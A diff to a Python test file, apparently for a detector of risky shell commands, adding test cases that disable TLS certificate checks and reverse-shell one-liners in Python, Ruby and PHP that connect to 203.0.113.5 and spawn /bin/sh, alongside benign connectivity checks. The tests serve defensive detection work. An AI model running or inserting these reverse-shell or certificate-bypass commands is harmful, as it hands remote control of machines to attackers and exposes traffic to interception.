@@ -125,6 +125,8 @@ def test_any_code_can_be_looked_at(code: str) -> None:
         "apk add --allow-untrusted tool.apk",
         "kubectl --insecure-skip-tls-verify get pods",
         "ssh -o StrictHostKeyChecking=no deploy@host.example",
+        "Invoke-WebRequest -Uri https://x.io/y -SkipCertificateCheck",
+        "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
     ],
 )
 def test_checks_that_are_turned_off(code: str) -> None:
@@ -144,6 +146,7 @@ def test_checks_that_are_turned_off(code: str) -> None:
         "npm config set strict-ssl true",
         "export NODE_TLS_REJECT_UNAUTHORIZED=1",
         "apt-get install -y tool",
+        "irm https://x.io/y -SkipCertificateCheck:$false",
     ],
 )
 def test_checks_that_stay_on(code: str) -> None:
@@ -154,6 +157,9 @@ def test_checks_that_stay_on(code: str) -> None:
     "code",
     [
         "nc -e /bin/sh 203.0.113.5 4444",
+        "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"203.0.113.5\",9));pty.spawn(\"/bin/sh\")'",
+        "ruby -rsocket -e 'f=TCPSocket.open(\"203.0.113.5\",99).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
+        "php -r '$s=fsockopen(\"203.0.113.5\",99);exec(\"/bin/sh -i <&3 >&3\");'",
         "ncat 203.0.113.5 4444 --exec /bin/bash",
         "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
         "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
@@ -173,6 +179,9 @@ def test_shells_for_others(code: str) -> None:
         "while ! nc -w 2 10.0.0.5 5432; do sleep 1; done",
         "echo ruok | nc 127.0.0.1 2181",
         "rsync -e ssh a host:",
+        "python -c 'import socket; socket.create_connection((\"db\", 5432))' && sh -c 'make'",
+        "python -c 'import socket; s = socket.socket(); s.connect((\"db\", 5432))'",
+        "python connect.py --shell /bin/sh",
         "(echo > /dev/tcp/localhost/5432) && echo up",
         "# bash -i >& /dev/tcp/203.0.113.5/4444",
         "func() { true; }",
